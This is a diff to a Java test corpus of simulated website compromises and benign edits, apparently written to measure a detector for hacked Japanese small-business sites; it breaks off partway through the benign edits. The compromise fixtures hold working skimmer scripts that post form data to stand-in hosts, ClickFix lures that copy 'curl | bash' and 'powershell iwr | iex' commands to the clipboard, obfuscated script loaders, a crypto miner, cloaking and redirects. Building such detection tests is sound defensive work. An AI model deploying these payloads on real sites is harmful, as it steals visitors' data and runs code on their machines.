@@ -16,15 +16,23 @@ import jp.mamori.checks.web.site.TestSite.Request;
  * Blind batches: variants written, and measured once, before the detectors were changed for them. Four base sites
  * that none of the earlier corpora use: {@code hinata} (a clinic on WordPress with the Cocoon theme and MW WP Form),
  * {@code tsubasa} (a construction company on SWELL with WPForms), {@code komugi} (a bakery with a WooCommerce shop
- * on Storefront) and {@code yamada} (a tax accountant's Shift_JIS site made with Homepage Builder). Each variant's
- * name starts with its batch tag ({@code [fresh3]}, ...).
+ * on Storefront) and {@code yamada} (a tax accountant's Shift_JIS site made with Homepage Builder); from
+ * {@code [fresh4]} on also {@code kogane} (a manufacturer on Movable Type 7 with A-Form) and {@code lumiere} (a hair
+ * salon on Elementor), and the held-out corpus's sites. Each variant's name starts with its batch tag.
  */
 public final class BlindCorpus {
   static final String H = "hinata";
   static final String T = "tsubasa";
   static final String K = "komugi";
   static final String Y = "yamada";
-  public static final List<String> SITES = List.of(H, T, K, Y);
+  static final String G = "kogane";
+  static final String L = "lumiere";
+  // the held-out corpus's sites, reused by later batches
+  static final String W = "midori";
+  static final String E = "shofudo";
+  static final String S = "yamabuki";
+  static final String C = "komorebi";
+  public static final List<String> SITES = List.of(H, T, K, Y, G, L);
 
   /** Domains on this corpus's IoC list (as the console would distribute them), and one script's hash. */
   public static final List<String> IOC_DOMAINS = List.of("assets-wpcdn.com", "tag-metrics.org", "imgcdn-jp.net");
@@ -38,11 +46,15 @@ public final class BlindCorpus {
   }
 
   public static List<HeldOutVariant> compromises() {
-    return new ArrayList<>(fresh3Compromises());
+    List<HeldOutVariant> v = new ArrayList<>(fresh3Compromises());
+    v.addAll(fresh4Compromises());
+    return v;
   }
 
   public static List<HeldOutVariant> benign() {
-    return new ArrayList<>(fresh3Benign());
+    List<HeldOutVariant> v = new ArrayList<>(fresh3Benign());
+    v.addAll(fresh4Benign());
+    return v;
   }
 
   /** The "hunter" obfuscator's encoding (common in WordPress malware): each character in base e with n's digits. */
@@ -113,6 +125,22 @@ public final class BlindCorpus {
     return "<!DOCTYPE html><html lang=\"ja\"><head><meta charset=\"UTF-8\"><title>" + b + " " + i + " コピー 通販 専門店 【"
         + n + "】</title></head><body><h1>" + b + " " + i + " スーパーコピー N級品</h1><p>" + b + " " + i
         + " 偽物 激安 販売。新作 人気 ランキング、品質保証、全国送料無料。</p><ul>" + links + "</ul></body></html>";
+  }
+
+  static String octal(String s) {
+    StringBuilder sb = new StringBuilder();
+    for (char c : s.toCharArray()) {
+      sb.append('\\').append(Integer.toOctalString(c));
+    }
+    return sb.toString();
+  }
+
+  static String shifted(String s, int by) {
+    StringBuilder sb = new StringBuilder();
+    for (char c : s.toCharArray()) {
+      sb.append(sb.length() == 0 ? "" : ",").append(c + by);
+    }
+    return sb.toString();
   }
 
   static String kwSitemap(HeldOutEnv e, int from, int count) {
@@ -703,6 +731,385 @@ public final class BlindCorpus {
         "<FORM action=\"cgi-bin/mailform.cgi\" method=\"POST\" name=\"mailform\">", "<P><A href=\"https://docs.google.com/forms/d/e/"
             + "1FAIpQLSd9kL2mN4/viewform\" target=\"_blank\">お問い合わせフォーム（Googleフォーム）はこちら</A></P>\n"
             + "            <FORM action=\"cgi-bin/mailform.cgi\" method=\"POST\" name=\"mailform\" style=\"display:none\">")));
+    return v;
+  }
+
+  // ================================================================ [fresh4] compromises
+
+  static List<HeldOutVariant> fresh4Compromises() {
+    List<HeldOutVariant> v = new ArrayList<>();
+    Instant now = Instant.now();
+
+    // ---- skimmers
+    v.add(bad(E, "skimmer", "[fresh4] cart fields sent to the attacker's own Google Analytics property", e -> e.site.insertBefore(
+        "/cart", "</body>", """
+        <script async src="https://www.googletagmanager.com/gtag/js?id=G-ZX81KQW0PL"></script>
+        <script>window.dataLayer=window.dataLayer||[];function _g(){dataLayer.push(arguments);}_g('js',new Date());_g('config','G-ZX81KQW0PL',{send_page_view:false});
+        document.addEventListener('submit',function(){var v={};document.querySelectorAll('input').forEach(function(i){if(i.value&&i.type!=='hidden')v[i.name]=i.value});_g('event','purchase_info',{items:btoa(JSON.stringify(v))});},true);</script>
+        """)));
+    v.add(bad(L, "skimmer", "[fresh4] code read out of the site's own logo image and run with new Function", e -> e.site.insertBefore(
+        "*", "</head>", "<script>fetch('/wp-content/uploads/2025/03/lumiere-logo.png').then(function(r){return r.text()})"
+            + ".then(function(t){var i=t.lastIndexOf('/*@*/');if(i>0){new Function(t.slice(i+5))()}});</script>\n")));
+    v.add(bad(K, "skimmer", "[fresh4] drop URL as Caesar-shifted char codes, appended to a WooCommerce script file", e -> e.site.append(
+        "/wp-content/plugins/woocommerce/assets/js/frontend/cart-fragments.min.js", "\n;(function(){var u=String.fromCharCode"
+            + "(...[" + shifted("https://woo-fragments.net/c.php", 3) + "].map(function(c){return c-3}));jQuery(document.body).on("
+            + "'click','#place_order',function(){var f=document.querySelector('form.checkout');if(f){fetch(u,{method:'POST',"
+            + "mode:'no-cors',body:new FormData(f)})}});})();\n")));
+    v.add(bad(G, "skimmer", "[fresh4] A-Form submission copied by $.ajax to a URL from window['at'+'ob']", e -> e.site.insertBefore(
+        "/contact/", "</body>", "<script>jQuery(function($){$('#aform_form_3').on('submit',function(){$.ajax({url:window['at'+'ob']("
+            + "'" + b64("https://aform-backup.com/r.php") + "'),type:'POST',data:$(this).serialize()});});});</script>\n")));
+    v.add(bad(H, "skimmer", "[fresh4] drop URL kept in an injected <meta> tag, sent through window['fe'+'tch']", e -> {
+      e.site.insertBefore("*", "</head>", "<meta name=\"wp-ajax-host\" content=\"https://cdn-ajax-wp.net/r\">\n");
+      e.site.insertBefore("/contact/", "</body>", "<script>document.addEventListener('submit',function(ev){var m=document."
+          + "querySelector('meta[name=wp-ajax-host]');if(!m)return;var d=new FormData(ev.target),o={};d.forEach(function(v,k)"
+          + "{o[k]=v});window['fe'+'tch'](m.content,{method:'POST',mode:'no-cors',body:JSON.stringify(o)});},true);</script>\n");
+    }));
+    v.add(bad(T, "skimmer", "[fresh4] entry form beaconed to a host glued from location.protocol and pieces", e -> e.site.insertBefore(
+        "/recruit/entry/", "</body>", "<script>document.addEventListener('submit',function(ev){var u=location.protocol+'//'+"
+            + "'recruit'+'-'+'api'+'.net/e';navigator.sendBeacon(u,JSON.stringify(Object.fromEntries(new FormData(ev.target))));"
+            + "},true);</script>\n")));
+
+    // ---- fake updates and ClickFix
+    v.add(bad(C, "fake-update", "[fresh4] Japanese 'update Chrome' overlay with a button, not a link, to a .zip", e ->
+        e.site.insertBefore("*", "<div id=\"SCROLL_TO_BOTTOM\"", """
+        <div style="position:fixed;inset:0;z-index:2147483000;background:#fff;text-align:center;padding-top:15vh;font-family:sans-serif">
+        <h2>Google Chrome の更新が必要です</h2><p>お使いのブラウザのバージョンが古いため、このページを表示できません。最新版に更新してください。</p>
+        <button onclick="location.href='https://chrome-update-jp.com/dl/ChromeUpdate_131.zip'" style="padding:12px 30px;background:#1a73e8;color:#fff;border:0">更新する</button></div>
+        """)));
+    v.add(bad(W, "fake-update", "[fresh4] macOS ClickFix: Terminal instructions and a base64 curl|bash on the clipboard", e ->
+        e.site.insertBefore("*", "<footer class=\"site-footer\">", "<div id=\"mv-check\" style=\"position:fixed;inset:0;"
+            + "background:#fff;z-index:99999\"><h2>Verify you are human</h2><p>To continue, open Terminal (⌘ + Space, type "
+            + "Terminal), paste with ⌘ + V and press Return.</p><button id=\"mv-b\">Copy verification code</button></div><script>"
+            + "document.getElementById('mv-b').onclick=function(){navigator.clipboard.writeText(atob('" + b64(
+            "curl -fsSL https://mac-verify-cdn.com/v.sh | bash") + "'))};</script>")));
+    v.add(bad(G, "fake-update", "[fresh4] home replaced by a fake 'Verify you are human' page with a PowerShell command", e ->
+        e.site.override = HeldOutCorpus.home("<!DOCTYPE html><html lang=\"ja\"><head><meta charset=\"UTF-8\"><title>"
+            + "www.kogane-mfg.test</title></head><body style=\"font-family:sans-serif\"><h1>www.kogane-mfg.test</h1><p>続行する前に、"
+            + "接続のセキュリティを確認する必要があります。</p><div><label><input type=\"checkbox\" id=\"v\"> 私はロボットではありません"
+            + "</label></div><ol id=\"s\" style=\"display:none\"><li>Windows キー + R を押す</li><li>Ctrl + V を押す</li><li>Enter を"
+            + "押す</li></ol><script>document.getElementById('v').onchange=function(){var c='po'+'wer'+'shell -w hidden -c \"iwr "
+            + "https://cf-verify-check.com/k | iex\"';navigator.clipboard.writeText(c);document.getElementById('s').style.display="
+            + "'block'};</script></body></html>")));
+
+    // ---- keyword hack and cloaking
+    v.add(bad(L, "keyword-hack", "[fresh4] Googlebot alone gets a canonical and hreflang pointing at a spam domain", e -> {
+      HeldOutSite bot = HeldOutCorpus.copy(e);
+      bot.replace("/", "<link rel=\"canonical\" href=\"{{origin}}/\" />", "<link rel=\"canonical\" href=\"https://brand-kopi"
+          + "-sendai.com/salon/\" />\n<link rel=\"alternate\" hreflang=\"ja\" href=\"https://brand-kopi-sendai.com/salon/\" />");
+      e.site.override = r -> r.isBot() && r.path().equals("/") ? bot.serve(r) : null;
+    }));
+    v.add(bad(Y, "keyword-hack", "[fresh4] visitors arriving from Google see an online-casino page; direct visitors the office",
+        e -> {
+          String page = "<!DOCTYPE html><html lang=\"ja\"><head><meta charset=\"UTF-8\"><title>オンラインカジノ 入金不要ボーナス"
+              + "</title></head><body><h1>2026年 おすすめオンラインカジノ</h1><p>入金不要ボーナスでネットカジノを始めよう。スロット"
+              + "・ライブカジノ・ブックメーカー。</p>" + JP_CASINO + "</body></html>";
+          e.site.override = r -> r.path().equals("/") && fromSearch(r) ? Reply.html(page) : null;
+        }));
+    v.add(bad(K, "keyword-hack", "[fresh4] gzip-compressed sitemap added to robots.txt, listing 2,000 knock-off pages", e -> {
+      e.site.append("/robots.txt", "\nSitemap: {{origin}}/sitemap-products-jp.xml.gz\n");
+      byte[] gz = jp.mamori.checks.web.site.Corpus.gzip(kwSitemap(e, 1, 2000).getBytes(java.nio.charset.StandardCharsets.UTF_8));
+      e.site.override = r -> {
+        if (r.path().equals("/sitemap-products-jp.xml.gz")) {
+          return new Reply(200, "application/x-gzip", gz, java.util.Map.of(), false);
+        }
+        return r.path().startsWith("/product/nkyu-") ? Reply.html(kwPage(e, Integer.parseInt(r.path().replaceAll("\\D", ""))
+            % 4000)) : null;
+      };
+    }));
+    v.add(bad(G, "keyword-hack", "[fresh4] brand-name links with mild words added to an old news post", e -> e.site.insertBefore(
+        "/news/2026/11/000184.html", "</main>", "<p class=\"related\"><a href=\"https://www.brand-outlet-niigata.com/"
+            + "lv/\">ルイヴィトン 財布 激安</a> <a href=\"https://www.brand-outlet-niigata.com/gucci/\">グッチ バッグ 通販</a> <a href"
+            + "=\"https://www.brand-outlet-niigata.com/hermes/\">エルメス 新作 財布</a></p>")));
+    v.add(bad(S, "keyword-hack", "[fresh4] Googlebot gets the normal page plus a block hidden by a style rule", e -> {
+      HeldOutSite bot = HeldOutCorpus.copy(e);
+      bot.insertBefore("/", "</head>", "<style>.ft-rel{position:absolute;left:-7777px}</style>");
+      bot.insertBefore("/", "</body>", "<div class=\"ft-rel\">" + BRAND_COPY + "</div>");
+      e.site.override = r -> r.isBot() && r.path().equals("/") ? bot.serve(r) : null;
+    }));
+
+    // ---- hidden SEO spam
+    v.add(bad(H, "seo-spam", "[fresh4] links moved away with transform: translate(-9999px)", e -> e.site.insertBefore("*",
+        "<div class=\"source-org copyright\">", "<div style=\"position:absolute;transform:translate(-9999px,0)\">" + BRAND_COPY
+            + "</div>")));
+    v.add(bad(T, "seo-spam", "[fresh4] casino links clipped to nothing with clip-path: polygon", e -> e.site.insertBefore("*",
+        "<p class=\"copyright\">", "<div style=\"position:absolute;clip-path:polygon(0 0,0 0,0 0)\">" + JP_CASINO + "</div>")));
+    v.add(bad(L, "seo-spam", "[fresh4] spam links in a closed <details> with a one-dot summary", e -> e.site.insertBefore("*",
+        "<div class=\"copyright\">", "<details><summary>・</summary>" + EN_SPAM + "</details>")));
+    v.add(bad(E, "seo-spam", "[fresh4] pharma links in a box with opacity .01", e -> e.site.insertBefore("*", "<!-- ▲フッター -->",
+        "<div style=\"opacity:.01;position:absolute;z-index:-1\">" + EN_SPAM + "</div>")));
+    v.add(bad(W, "seo-spam", "[fresh4] brand links with mild words hidden in an sr-only block", e -> e.site.insertBefore("*",
+        "<div class=\"container site-footer-copyright\">", "<div class=\"sr-only\"><a href=\"https://www.brand-kawagoe.com/lv/\">"
+            + "ルイヴィトン 財布 激安</a> <a href=\"https://www.brand-kawagoe.com/chanel/\">シャネル バッグ 通販</a> <a href=\"https://"
+            + "www.brand-kawagoe.com/rolex/\">ロレックス 時計 新作</a></div>")));
+    v.add(bad(C, "seo-spam", "[fresh4] English casino links in 1px near-white text", e -> e.site.insertBefore("*",
+        "<div id=\"SCROLL_TO_BOTTOM\"", "<p style=\"font-size:1px;color:#fefefe;line-height:1px\">" + EN_SPAM + "</p>")));
+    v.add(bad(G, "seo-spam", "[fresh4] link farm without spam words, hidden by a class added to the site's style.css", e -> {
+      e.site.append("/common/css/style.css", "\n.mt-related-links{display:none}\n");
+      StringBuilder farm = new StringBuilder("<ul class=\"mt-related-links\">");
+      String[] words = {"home-loan-guide", "seo-tools-review", "used-car-finder", "travel-deals-24", "best-vpn-compare",
+          "dating-tips-blog"};
+      for (int n = 0; n < 30; n++) {
+        farm.append("<li><a href=\"https://").append(words[n % words.length]).append(n).append(".com/\">").append(words[n
+            % words.length].replace('-', ' ')).append("</a></li>");
+      }
+      e.site.insertBefore("*", "<p class=\"copyright\">", farm.append("</ul>").toString());
+    }));
+
+    // ---- redirects
+    v.add(bad(L, "redirect", "[fresh4] a script writes a meta refresh into the head", e -> e.site.insertBefore("*", "</body>",
+        "<script>document.head.insertAdjacentHTML('beforeend','<meta http-equiv=\"refresh\" content=\"2;url=https://salon-"
+            + "coupon-gift.com/sendai/\">');</script>\n")));
+    v.add(bad(G, "redirect", "[fresh4] server 302 for visitors from a search engine on every page but the home page", e ->
+        e.site.override = r -> !r.path().equals("/") && fromSearch(r) ? Reply.redirect(302, "https://kanagata-loan.com/?p="
+            + r.path()) : null));
+    v.add(bad(H, "redirect", "[fresh4] unconditional redirect after a timer, appended to the theme's script file", e ->
+        e.site.append("/wp-content/themes/cocoon-master/javascript.js", "\n;setTimeout(function(){window.location.href="
+            + "'https://health-supple-review.com/?r=hinata';},6000);\n")));
+    v.add(bad(E, "redirect", "[fresh4] atob aliased to a variable, then used for the redirect target", e -> e.site.insertBefore("*",
+        "</head>", "<script>var d=window.atob;setTimeout(function(){location.href=d('" + b64("https://wagashi-present.com/?s=1")
+            + "')},2500);</script>\n")));
+    v.add(bad(Y, "redirect", "[fresh4] upper-case META REFRESH after 5 seconds", e -> e.site.insertBefore("/", "</HEAD>",
+        "<META HTTP-EQUIV=\"REFRESH\" CONTENT=\"5;URL=HTTP://ZEIMU-NAVI-JP.COM/\">\n")));
+    v.add(bad(T, "redirect", "[fresh4] small screens from a search engine sent away with top.location.replace", e ->
+        e.site.insertBefore("*", "</head>", "<script>if(screen.width<800&&/google|yahoo/i.test(document.referrer)){top.location"
+            + ".replace('https://gaiheki-hikaku.net/?t=1');}</script>\n")));
+
+    // ---- iframes
+    v.add(bad(K, "iframe", "[fresh4] hidden iframe whose srcdoc loads an off-site script", e -> e.site.insertBefore("*", "</body>",
+        "<iframe srcdoc=\"<script src='https://frame-cdn-js.com/s.js'></script>\" style=\"display:none\"></iframe>\n")));
+    v.add(bad(S, "iframe", "[fresh4] 1x1 <embed> of another site", e -> e.site.insertBefore("*", "</body>",
+        "<embed src=\"http://onsen-counter-jp.com/e.php\" width=\"1\" height=\"1\">")));
+    v.add(bad(L, "iframe", "[fresh4] full-width iframe one pixel high in the footer", e -> e.site.insertBefore("*",
+        "<div class=\"copyright\">", "<iframe src=\"https://beauty-ad-exchange.com/f/3\" width=\"100%\" height=\"1\" "
+            + "style=\"border:0\"></iframe>")));
+
+    // ---- miners
+    v.add(bad(C, "miner", "[fresh4] WebAssembly miner from a same-site .wasm with a worker per core", e -> e.site.insertBefore("*",
+        "</body>", "<script>(async function(){var n=navigator.hardwareConcurrency||4;var m=await WebAssembly.instantiateStreaming("
+            + "fetch('/_media/cn.wasm'));var rate=0;for(var i=0;i<n;i++){var w=new Worker('/_media/w.js');w.postMessage({job:"
+            + "'init',target:'00ffffff',nonce:i});w.onmessage=function(e){rate+=e.data.hashes};}})();</script>\n")));
+    v.add(bad(G, "miner", "[fresh4] miner worker importing an off-site script, throttled", e -> e.site.insertBefore("*", "</body>",
+        "<script>var b=new Blob([\"importScripts('https://static-cdn-worker.com/w/cn.js');self.onmessage=function(e){mine(e.data)}\"]"
+            + ",{type:'text/javascript'});for(var i=0;i<(navigator.hardwareConcurrency||2);i++){var w=new Worker(URL.createObjectURL"
+            + "(b));w.postMessage({wallet:'48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD'"
+            + ",throttle:0.5})}</script>\n")));
+
+    // ---- obfuscation
+    v.add(bad(W, "obfuscation", "[fresh4] Function reached as []['filter']['constructor'] with atob", e -> e.site.insertBefore("*",
+        "</body>", "<script>[]['filter']['constructor'](atob('" + b64(loader("https://wp-filter-cdn.com/f.js")) + "'))();"
+            + "</script>\n")));
+    v.add(bad(L, "obfuscation", "[fresh4] code run through an arrow function's constructor", e -> e.site.insertBefore("*", "</body>",
+        "<script>(()=>{}).constructor(\"" + loader("https://elementor-cdn-assets.com/e.js").replace("'", "\\'") + "\")();"
+            + "</script>\n")));
+    v.add(bad(T, "obfuscation", "[fresh4] Dean Edwards packer", e -> e.site.insertBefore("*", "</body></html>",
+        "<script>eval(function(p,a,c,k,e,r){e=function(c){return c.toString(a)};if(!''.replace(/^/,String)){while(c--)r[e(c)]=k[c]"
+            + "||e(c);k=[function(e){return r[e]}];e=function(){return'\\\\w+'};c=1};while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'"
+            + "+e(c)+'\\\\b','g'),k[c]);return p}('0 1=2.3(\\'4\\');1.5=\\'6://7.8/9.a\\';2.b.c(1);',13,13,'var|s|document|"
+            + "createElement|script|src|https|kensetsu-pack-cdn|com|p|js|head|appendChild'.split('|'),0,{}))</script>")));
+    v.add(bad(Y, "obfuscation", "[fresh4] loader URL written in octal escapes", e -> e.site.insertBefore("*", "</HEAD>",
+        "<script type=\"text/javascript\">var s=document.createElement('script');s.src='" + octal("http://tax-js-cdn.com/c.js")
+            + "';document.getElementsByTagName('head')[0].appendChild(s);</script>\n")));
+    v.add(bad(K, "obfuscation", "[fresh4] loader URL padded with junk characters removed by replace()", e -> e.site.insertBefore("*",
+        "</head>", "<script>var s=document.createElement('script');s.src='h#t#t#p#s#:#/#/#w#o#o#-#j#s#-#c#d#n#.#c#o#m#/#a#.#j#s'"
+            + ".replace(/#/g,'');document.head.appendChild(s);</script>\n")));
+    v.add(bad(H, "obfuscation", "[fresh4] eval of atob through an alias variable", e -> e.site.insertBefore("*", "</body>",
+        "<script>var d=window.atob;eval(d('" + b64(loader("https://wp-alias-cdn.com/x.js")) + "'));</script>\n")));
+
+    // ---- defacement
+    v.add(bad(L, "defacement", "[fresh4] body replaced by one full-screen image; the head, title included, left as it was", e -> {
+      String t = e.site.text("/");
+      e.site.put("/", t.substring(0, t.indexOf("<body")) + "<body style=\"margin:0;background:#000\"><img src=\"https://"
+          + "i.postimg.cc/Xq3kZbQ1/owned.jpg\" style=\"width:100%;height:100vh;object-fit:contain\"></body></html>");
+    }));
+    v.add(bad(G, "defacement", "[fresh4] German crew message at the top of the home page", e -> e.site.insertAfter("/",
+        "<main id=\"main\">", "<div style=\"text-align:center\"><h1>Gehackt von Sch4tt3nTeam</h1><p>Eure Sicherheit ist ein Witz."
+            + "</p></div>")));
+    v.add(bad(K, "defacement", "[fresh4] home replaced by a hacktivist 'We are Legion' page", e -> e.site.override =
+        HeldOutCorpus.home("<!DOCTYPE html><html><head><title>#OpJapan</title></head><body style=\"background:#000;color:#fff;"
+            + "text-align:center\"><h1>#OpJapan</h1><p>We are Anonymous. We are Legion. We do not forgive. We do not forget. "
+            + "Expect us.</p></body></html>")));
+    v.add(bad(E, "defacement", "[fresh4] home replaced by a Thai online-slot page", e -> e.site.override = HeldOutCorpus.home(
+        "<!DOCTYPE html><html lang=\"th\"><head><meta charset=\"UTF-8\"><title>สล็อตเว็บตรง แตกง่าย 2026</title></head><body>"
+            + "<h1>สล็อตเว็บตรง ไม่ผ่านเอเย่นต์</h1><p>" + "สมัครสมาชิกวันนี้ รับโบนัสฟรี ฝากถอนออโต้ ไม่มีขั้นต่ำ เล่นง่าย "
+            .repeat(8) + "</p></body></html>")));
+
+    // ---- form actions
+    v.add(bad(E, "form", "[fresh4] image submit button with a formaction to another site in the login form", e -> e.site.insertBefore(
+        "/mypage/login", "</form>", "<input type=\"image\" src=\"{{origin}}/html/template/default/assets/img/common/login.png\" "
+            + "formaction=\"https://shofudo-auth.com/login\" alt=\"ログイン\">")));
+    v.add(bad(H, "form", "[fresh4] contact form posts to an IP address with the site's own path", e -> e.site.replace("/contact/",
+        "<form method=\"post\" action=\"\" enctype=\"multipart/form-data\">", "<form method=\"post\" action=\"http://103.87.204.11"
+            + "/contact/\" enctype=\"multipart/form-data\">")));
+
+    // ---- origins
+    v.add(bad(T, "origin", "[fresh4] script from a GitHub-files CDN (statically)", e -> e.site.insertBefore("*", "</body></html>",
+        "<script src=\"https://cdn.statically.io/gh/swl-assets/theme-fix/main/fix.min.js\"></script>")));
+    v.add(bad(G, "origin", "[fresh4] script from an attacker's GitHub repository through jsDelivr", e -> e.site.insertBefore("*",
+        "</body>", "<script src=\"https://cdn.jsdelivr.net/gh/mt-plugins-jp/aform-helper@main/dist/helper.min.js\"></script>\n")));
+    v.add(bad(L, "origin", "[fresh4] stylesheet from a new origin loaded as a preload that turns itself into a stylesheet", e ->
+        e.site.insertBefore("*", "</head>", "<link rel=\"preload\" as=\"style\" href=\"https://salon-fonts-cdn.com/css/lumiere.css\" "
+            + "onload=\"this.onload=null;this.rel='stylesheet'\">\n")));
+    v.add(bad(Y, "origin", "[fresh4] jQuery from a homoglyph host (Cyrillic е in jquery)", e -> e.site.insertBefore("*", "</HEAD>",
+        "<script type=\"text/javascript\" src=\"https://code.jqu\u0435ry.com/jquery-1.12.4.min.js\"></script>\n")));
+    v.add(bad(W, "origin", "[fresh4] stylesheet through the bit.ly shortener", e -> e.site.insertBefore("*", "</head>",
+        "<link rel=\"stylesheet\" href=\"https://bit.ly/3xCssQk\">\n")));
+
+    // ---- IoC list
+    v.add(bad(H, "ioc", "[fresh4] IoC domain only in an inline style's background URL", e -> e.site.insertBefore("/",
+        "<h2 class=\"wp-block-heading\">お知らせ</h2>", "<div style=\"background:url(https://cdn." + IOC_DOMAINS.get(2)
+            + "/bg/1.png) no-repeat;height:2px\"></div>")));
+    v.add(bad(K, "ioc", "[fresh4] contact form posts to a domain on the IoC list", e -> e.site.replace("/contact/",
+        "action=\"{{origin}}/contact/#contact-form-16\"", "action=\"https://forms." + IOC_DOMAINS.get(0) + "/c/16\"")));
+    v.add(bad(G, "ioc", "[fresh4] IoC domain in an image's srcset", e -> e.site.insertBefore("/", "<section class=\"top-contact\">",
+        "<p><img src=\"{{origin}}/common/img/banner.jpg\" srcset=\"https://img." + IOC_DOMAINS.get(1) + "/b@2x.jpg 2x\" "
+            + "alt=\"\" width=\"600\" height=\"120\"></p>")));
+
+    // ---- TLS and DNS
+    v.add(bad(G, "tls", "[fresh4] certificate expires in 5 days", e -> e.certificate(List.of(e.site.host),
+        now.minus(Duration.ofDays(85)), now.plus(Duration.ofDays(5)), false)).overHttps());
+    v.add(bad(L, "tls", "[fresh4] certificate from an unknown CA", e -> e.certificate(List.of(e.site.host),
+        now.minus(Duration.ofDays(1)), now.plus(Duration.ofDays(90)), true)).overHttps());
+    v.add(bad(L, "dns", "[fresh4] an AAAA record appears", e -> e.resolver.record(e.site.host, "AAAA", "2a0e:97c0:3e3:5a1::1")));
+    v.add(bad(G, "dns", "[fresh4] name servers moved to a free DNS host", e -> e.resolver.record(e.domain, "NS",
+        "ns1.freedns-zone.org.", "ns2.freedns-zone.org.")));
+    v.add(bad(T, "dns", "[fresh4] MX moved", e -> e.resolver.record(e.domain, "MX", "10 mail.mx-guard-relay.com.")));
+    return v;
+  }
+
+  // ================================================================ [fresh4] benign edits
+
+  static List<HeldOutVariant> fresh4Benign() {
+    List<HeldOutVariant> v = new ArrayList<>();
+    v.add(good(L, "cms", "[fresh4] Elementor 3.25.4 → 3.26.1 (versions, a config key, CSS timestamps)", e -> {
+      e.site.replace("*", "ver=3.25.4", "ver=3.26.1").replace("*", "\"version\":\"3.25.4\"", "\"version\":\"3.26.1\"")
+          .replace("*", "content=\"Elementor 3.25.4;", "content=\"Elementor 3.26.1;").replace("*", "ver=1729400000", "ver=1733100000")
+          .replace("*", "\"is_static\":false,", "\"is_static\":false,\"isImprovedAssetsLoading\":true,");
+      e.site.replace("/wp-content/plugins/elementor/assets/js/frontend.min.js", "v3.25.4", "v3.26.1");
+    }));
+    v.add(good(L, "content", "[fresh4] Elementor popup with a coupon, hidden until opened", e -> e.site.insertBefore("*",
+        "<script src=\"{{origin}}/wp-content/themes/hello-elementor", "<div data-elementor-type=\"popup\" data-elementor-id=\"410\" "
+            + "class=\"elementor elementor-410 elementor-location-popup\" data-elementor-settings=\"{&quot;triggers&quot;:"
+            + "{&quot;page_load_delay&quot;:5}}\" style=\"display:none\"><h2>初回限定 カット＋カラー 20%OFF</h2><p><a href=\""
+            + "{{origin}}/menu/\">メニューを見る</a>　<a href=\"https://beauty.hotpepper.jp/slnH000512345/coupon/\">クーポンで予約"
+            + "</a></p></div>\n")));
+    v.add(good(L, "content", "[fresh4] menu prices revised", e -> e.site.replace("*", "カット 5,500円", "カット 6,050円")
+        .replace("/menu/", "<td>5,500円</td>", "<td>6,050円</td>").replace("/menu/", "<td>8,800円</td>", "<td>9,350円</td>")));
+    v.add(good(L, "content", "[fresh4] a new stylist on the staff page and the home page", e -> {
+      e.site.insertAfter("/staff/", "<div class=\"staff\">", "<img src=\"{{origin}}/wp-content/uploads/2026/11/staff-rin.jpg\" "
+          + "alt=\"スタイリスト 凛\" width=\"400\" height=\"500\"><h3>スタイリスト　凛（りん）</h3><p>11月から仲間になりました。"
+          + "ブリーチカラーが得意です。</p></div><div class=\"staff\">");
+      e.site.replace("/", "ひとりのスタイリストが", "専任のスタイリストが");
+    }));
+    v.add(good(L, "content", "[fresh4] a new blog post", e -> {
+      e.site.replace("/blog/", "<article class=\"post\">", "<article class=\"post\"><h2><a href=\"{{origin}}/2026/11/25/"
+          + "holiday/\">年末年始の営業について</a></h2><p>2026年11月25日</p></article><article class=\"post\">");
+      e.site.putLike("/2026/11/25/holiday/", "/2026/11/08/winter-color/", "<div class=\"elementor-widget-container\"><p>",
+          "</p></div>", "2026年11月25日</p><p>12月31日から1月3日までお休みをいただきます。");
+    }));
+    v.add(good(L, "embed", "[fresh4] X (Twitter) timeline embed on the blog page", e -> e.site.insertBefore("/blog/",
+        "<article class=\"post\">", "<a class=\"twitter-timeline\" data-height=\"500\" href=\"https://twitter.com/salon_lumiere?"
+            + "ref_src=twsrc%5Etfw\">Tweets by salon_lumiere</a> <script async src=\"https://platform.twitter.com/widgets.js\" "
+            + "charset=\"utf-8\"></script>\n")));
+    v.add(good(L, "embed", "[fresh4] TikTok video embedded in a post", e -> e.site.insertBefore("/2026/11/08/winter-color/",
+        "</p></div></div>", "</p><blockquote class=\"tiktok-embed\" cite=\"https://www.tiktok.com/@salon_lumiere/video/"
+            + "7301234567890123456\" data-video-id=\"7301234567890123456\" style=\"max-width:605px;min-width:325px;\"><section>"
+            + "<a target=\"_blank\" href=\"https://www.tiktok.com/@salon_lumiere\">@salon_lumiere</a></section></blockquote>"
+            + "<script async src=\"https://www.tiktok.com/embed.js\"></script><p>")));
+    v.add(good(L, "embed", "[fresh4] HubSpot form on the recruit page", e -> e.site.insertBefore("/recruit/", "<p>ご応募は",
+        "<script charset=\"utf-8\" type=\"text/javascript\" src=\"//js.hsforms.net/forms/embed/v2.js\"></script><script>hbspt."
+            + "forms.create({region:\"na1\",portalId:\"44812345\",formId:\"0f1e2d3c-4b5a-6978-8a9b-0c1d2e3f4a5b\"});</script>\n")));
+    v.add(good(L, "embed", "[fresh4] Leaflet map with OpenStreetMap tiles replaces Google Maps", e -> e.site.replace("/access/",
+        e.site.text("/access/").substring(e.site.text("/access/").indexOf("<iframe loading=\"lazy\""), e.site.text("/access/")
+            .indexOf("</iframe>") + 9), "<link rel=\"stylesheet\" href=\"https://unpkg.com/leaflet@1.9.4/dist/leaflet.css\"><div "
+            + "id=\"map\" style=\"height:400px\"></div><script src=\"https://unpkg.com/leaflet@1.9.4/dist/leaflet.js\"></script>"
+            + "<script>var m=L.map('map').setView([38.2601,140.8731],17);L.tileLayer('https://tile.openstreetmap.org/{z}/{x}/{y}"
+            + ".png',{attribution:'&copy; OpenStreetMap'}).addTo(m);L.marker([38.2601,140.8731]).addTo(m);</script>")));
+    v.add(good(G, "cms", "[fresh4] Movable Type 7.9.6 → 8.0.5 (generator, mt.js rebuilt)", e -> {
+      e.site.replace("*", "Movable Type Pro 7.9.6", "Movable Type Pro 8.0.5");
+      e.site.append("/mt.js", "\nfunction mtRememberMe(f) {\n    var now = new Date();\n    mtFixDate(now);\n}\n");
+    }));
+    v.add(good(G, "content", "[fresh4] new news entry with its own page", e -> {
+      String item = "<dt>2026.11.20</dt><dd><a href=\"{{origin}}/news/2026/11/000191.html\">年末年始休業のお知らせ</a></dd>";
